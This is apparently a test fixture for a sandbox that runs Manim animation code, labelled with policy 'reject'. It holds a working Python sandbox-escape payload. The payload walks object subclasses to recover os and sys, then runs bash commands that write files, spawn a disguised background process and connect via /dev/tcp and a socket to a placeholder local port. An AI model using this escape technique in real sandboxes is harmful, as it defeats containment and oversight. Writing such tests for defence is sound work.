# category: esc
# attack: ().__class__.__base__.__subclasses__() to find a class whose __init__.__globals__ holds sys/os, then os.system/Popen/socket attacks (canaries, marker daemon, listener)
# expect: any
# policy: reject
from manim import *

TARGETS = HOSTILE_TARGETS


def find_os():
    for cls in ().__class__.__base__.__subclasses__():
        init = cls.__init__
        globals_ = getattr(init, "__globals__", None)
        if globals_ and "sys" in globals_:
            return globals_["sys"].modules["os"], globals_["sys"]
    raise LookupError("no os found")


class SubclassesWalk(Scene):
    def construct(self):
        os_mod, sys_mod = find_os()
        script = "; ".join(f"echo pwned > '{t}'" for t in TARGETS)
        script += f"; (exec -a {HOSTILE_MARKER}-sub sleep 300 &); echo x > /dev/tcp/127.0.0.1/{HOSTILE_PORT}"
        os_mod.system("bash -c \"" + script + "\"")
        socket_mod = sys_mod.modules.get("socket") or __import__("socket")
        try:
            socket_mod.create_connection(("127.0.0.1", HOSTILE_PORT), timeout=1)
        except OSError as exc:
            print("socket", type(exc).__name__)
        self.play(FadeIn(Square()), run_time=0.3)
